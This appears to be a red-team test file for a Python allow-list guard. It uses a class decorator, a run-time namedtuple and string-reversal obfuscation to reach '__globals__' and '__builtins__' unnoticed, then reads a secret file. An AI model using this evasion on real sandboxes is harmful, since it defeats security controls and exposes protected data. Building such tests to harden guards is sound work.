# family: red team, round 20 (classes reaching parameters unnoticed; allow-list guards)
# Chain: a class decorator that is the tool's own function receives the class object itself; nothing
# counts that as a class used as a value (objects._classes_as_values), so `self` in Reader.fetch stays
# trusted (own_object) and `for key in self.FIELDS` is a class constant. The decorator keeps the class;
# k.fetch(box, fn) calls the plain function with a namedtuple whose FIELDS is a run-time ["__globals__"].
from collections import namedtuple

KEPT = []


def keep(c):
    KEPT.append(c)
    return c


@keep
class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(KEPT[0], box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r20/work/secret.txt").read())


run()
